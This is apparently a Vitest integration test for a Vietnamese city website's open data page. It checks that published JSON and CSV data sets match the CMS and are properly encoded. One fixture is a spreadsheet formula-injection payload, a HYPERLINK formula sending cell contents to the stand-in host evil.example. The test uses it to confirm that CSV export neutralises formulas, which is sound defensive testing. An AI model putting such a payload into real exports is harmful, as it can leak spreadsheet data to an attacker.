import { existsSync, readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FIELD_TYPES, DATA_SETS, OPEN_DATA_FORMATS, OPEN_DATA_LICENCE, openDataFile, type DataSetKey } from '../../../site/src/lib/open-data.js';
import { SITE_PATHS } from '../../../cms/src/content-model/urls.js';
import { bootStrapi, type TestStrapi } from '../../helpers/boot-strapi.js';
import { readCsv } from '../../helpers/read-csv.js';
import { readPage, siteBuilder, type SiteBuild } from '../../helpers/site-build.js';
import { sqliteDatabase, type TestDatabase } from '../../helpers/test-database.js';

const TASK = 'api::resolution-task.resolution-task';
const GALLERY = 'api::photo-gallery.photo-gallery';
const LEGAL = 'api::legal-document.legal-document';
type Uid = typeof TASK;

const FORMULA_TITLE = '=HYPERLINK("https://evil.example/?q="&A1,"Nhấn vào đây")';
// Typed on a keyboard that sends combining marks (NFD): the data sets carry it composed (NFC).
const DECOMPOSED_TITLE = 'Chỉnh trang đô thị, lát lại vỉa hè phố Huế'.normalize('NFD');
const DRAFT_GALLERY = 'Bộ ảnh chưa xuất bản';

interface JsonDataSet {
  name: string;
  license: { id: string; url: string };
  releaseDate: string | null;
  fields: { name: string; type: string; description: string }[];
  recordCount: number;
  records: Record<string, unknown>[];
}

/**
 * The open data sets (/du-lieu-mo/) of a real build against a real CMS: every file the page
 * lists is there, parses (JSON; CSV as RFC 4180 with a BOM) and holds what the CMS publishes.
 */
describe('open data (/du-lieu-mo/) built from a real CMS', () => {
  let db: TestDatabase;
  let cms: TestStrapi;
  let site: SiteBuild;
  const build = siteBuilder(() => cms.url, () => cms.siteToken);
  const docs = (uid: string) => cms.strapi.documents(uid as Uid);
  const file = (urlPath: string) => readFileSync(path.join(site.outDir, urlPath));
  const json = (key: DataSetKey) => JSON.parse(file(openDataFile(DATA_SETS[key], 'json')).toString('utf8')) as JsonDataSet;
  const csv = (key: DataSetKey) => file(openDataFile(DATA_SETS[key], 'csv'));
  /** The data sets this build published: tasks and galleries always, Văn bản once the site has it. */
  let published: DataSetKey[];

  /** What the CMS publishes for each data set: documentIds and updatedAt. */
  async function cmsEntries(key: DataSetKey): Promise<{ documentId: string; updatedAt: string }[]> {
    const uid = { tasks: TASK, galleries: GALLERY, legalDocuments: LEGAL }[key];
    const status = key === 'tasks' ? {} : { status: 'published' as const };
    return (await docs(uid).findMany({ ...status, fields: ['documentId', 'updatedAt'], limit: 10_000 } as never)) as unknown as { documentId: string; updatedAt: string }[];
  }

  beforeAll(async () => {
    db = sqliteDatabase();
    cms = await bootStrapi(db);
    await docs(TASK).create({ data: { title: FORMULA_TITLE, year: 2022, order: 1, status: 'in_progress', responsibleUnit: 'Phòng Quản lý đô thị' } as never });
    await docs(TASK).create({ data: { title: DECOMPOSED_TITLE, year: 2022, order: 2, status: 'done', dueDate: '2022-12-31' } as never });
    await docs(GALLERY).create({ data: { title: DRAFT_GALLERY, description: 'Bản nháp, không được có trong dữ liệu mở.' } as never });
    site = await build();
    if (!site.ok) throw new Error(site.log);
    const names = readdirSync(path.join(site.outDir, SITE_PATHS.openData));
    published = (Object.keys(DATA_SETS) as DataSetKey[]).filter((key) => names.includes(`${DATA_SETS[key].name}.json`));
  }, 600_000);

  afterAll(async () => {
    await cms?.stop();
    await db?.drop();
  });

  it('publishes the key tasks and galleries (and Văn bản once the site has the collection)', () => {
    expect(published).toEqual(expect.arrayContaining(['tasks', 'galleries']));
    const expected = published.flatMap((key) => OPEN_DATA_FORMATS.map((format) => `${DATA_SETS[key].name}.${format}`)).sort();
    expect(readdirSync(path.join(site.outDir, SITE_PATHS.openData)).filter((name) => name !== 'index.html').sort()).toEqual(expected);
  });

  describe('the page', () => {
    const page = () => readPage(site.outDir, SITE_PATHS.openData);
    const text = () => page().replace(/<[^>]+>/g, ' ').replace(/\s+/g, ' ');

    it('links every file of every data set', () => {
      for (const key of published) {
        for (const format of OPEN_DATA_FORMATS) expect(page()).toContain(`href="${openDataFile(DATA_SETS[key], format)}"`);
      }
    });

    it("documents each data set's schema: every field, its type and its meaning", () => {
      for (const key of published) {
        const section = page().slice(page().indexOf(`id="${DATA_SETS[key].name}"`));
        const table = section.slice(0, section.indexOf('</table>'));
        const rows = [...table.matchAll(/<tr[^>]*>([\s\S]*?)<\/tr>/g)].slice(1).map((m) => m[1]!.split(/<[^>]+>/).map((cell) => cell.trim()).filter(Boolean));
        expect(rows).toEqual(DATA_SETS[key].fields.map((f) => [f.name, FIELD_TYPES[f.type].label, f.meaning]));
      }
    });

    it('names the licence and the release date', () => {
      expect(page()).toContain(`href="${OPEN_DATA_LICENCE.url}" rel="license"`);
      expect(text()).toContain('CC BY 4.0');
      const release = json('tasks').releaseDate!;
      expect(page()).toMatch(/Ngày phát hành dữ liệu:.*<time datetime="\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+07:00"[^>]*>\d\d\/\d\d\/\d{4} \| \d\d:\d\d<\/time>/);
      expect(new Date(/<time datetime="([^"]+)"/.exec(page())![1]!).getTime()).toBe(Math.floor(Date.parse(release) / 1000) * 1000);
    });

    it('is in the sitemap, and the footer of every page links to it', () => {
      expect(readFileSync(path.join(site.outDir, 'sitemap-0.xml'), 'utf8')).toContain(`${SITE_PATHS.openData}</loc>`);
      expect(readPage(site.outDir, '/')).toContain(`href="${SITE_PATHS.openData}"`);
    });
  });

  describe.each(['tasks', 'galleries', 'legalDocuments'] as const)('the %s data set', (key) => {
    const active = () => published.includes(key);

    it('JSON: the declared fields, the licence, and the records the CMS publishes', async () => {
      if (!active()) return;
      const data = json(key);
      const entries = await cmsEntries(key);
      expect(data.fields.map((f) => f.name)).toEqual(DATA_SETS[key].fields.map((f) => f.name));
      expect(data.license.id).toBe('CC-BY-4.0');
      expect(data.recordCount).toBe(entries.length);
      expect(data.records.map((r) => r.id).sort()).toEqual(entries.map((e) => e.documentId).sort());
      for (const record of data.records) expect(Object.keys(record)).toEqual(data.fields.map((f) => f.name));
    });

    it('CSV: UTF-8 with a BOM, RFC 4180 with CRLF, a header of the declared names, the same records in the same order', () => {
      if (!active()) return;
      const bytes = csv(key);
      expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      const text = bytes.toString('utf8').slice(1);
      expect(text.endsWith('\r\n')).toBe(true);
      const [header, ...rows] = readCsv(text);
      expect(header).toEqual(DATA_SETS[key].fields.map((f) => f.name));
      expect(rows.map((r) => r[0])).toEqual(json(key).records.map((r) => r.id));
    });
  });

  it('dates the release by the newest change the data sets hold, in every JSON file', async () => {
    const newest = Math.max(...(await Promise.all(published.map(cmsEntries))).flat().map((e) => Date.parse(e.updatedAt)));
    for (const key of published) expect(json(key).releaseDate).toBe(new Date(newest).toISOString());
  });

  it('keeps a Vietnamese title whole and composed (NFC) in both files', () => {
    const nfc = DECOMPOSED_TITLE.normalize('NFC');
    const record = json('tasks').records.find((r) => r.title === nfc);
    expect(record).toMatchObject({ year: 2022, order: 2, status: 'done', dueDate: '2022-12-31' });
    const rows = readCsv(csv('tasks').toString('utf8').slice(1));
    expect(rows.some((row) => row.includes(nfc))).toBe(true);
    expect(csv('tasks').toString('utf8')).not.toContain(DECOMPOSED_TITLE);
  });

  it('neutralises a formula in the CSV and keeps it intact in the JSON', () => {
    expect(json('tasks').records.find((r) => r.order === 1 && r.year === 2022)?.title).toBe(FORMULA_TITLE);
    const [header, ...rows] = readCsv(csv('tasks').toString('utf8').slice(1));
    const title = header!.indexOf('title');
    const cells = rows.map((row) => row[title]!);
    expect(cells).toContain(`'${FORMULA_TITLE}`);
    expect(cells.filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
  });

  it('gives a legal document its type, replacement and attachments, its number with Đ intact (when the site has Văn bản)', () => {
    if (!published.includes('legalDocuments')) return;
    const records = json('legalDocuments').records;
    const replaced = records.find((r) => r.validity === 'replaced' && r.replacedBy);
    expect(replaced, 'a sample document replaced by another').toBeDefined();
    const replacement = records.find((r) => r.number === replaced!.replacedBy)!;
    expect(replaced!.replacedByUrl).toBe(replacement.url);
    expect(records.map((r) => r.number)).toContain('05/NQ-HĐND'.normalize('NFC'));
    for (const record of records) {
      expect(typeof record.documentType).toBe('string');
      expect((record.attachments as string[]).every((url) => /^https?:\/\//.test(url))).toBe(true);
      expect(existsSync(path.join(site.outDir, decodeURI(new URL(record.url as string).pathname), 'index.html'))).toBe(true);
    }
    const [header, ...rows] = readCsv(csv('legalDocuments').toString('utf8').slice(1));
    expect(rows.map((row) => row[header!.indexOf('number')])).toEqual(records.map((r) => r.number));
  });

  it('leaves drafts out', () => {
    expect(JSON.stringify(json('galleries'))).not.toContain(DRAFT_GALLERY);
  });

  it('gives each gallery its photos with their alt text, and links the pages', () => {
    const gallery = json('galleries').records[0]!;
    const photos = gallery.photos as { url: string; alt: string; width: number }[];
    expect(photos.length).toBe(gallery.photoCount);
    expect(photos.length).toBeGreaterThan(0);
    for (const photo of photos) {
      expect(photo.url).toMatch(/^https?:\/\//);
      expect(photo.alt.length).toBeGreaterThan(0);
    }
    const pagePath = new URL(gallery.url as string).pathname;
    expect(existsSync(path.join(site.outDir, decodeURI(pagePath), 'index.html'))).toBe(true);
    for (const task of json('tasks').records) expect(existsSync(path.join(site.outDir, new URL(task.url as string).pathname, 'index.html'))).toBe(true);
  });
});
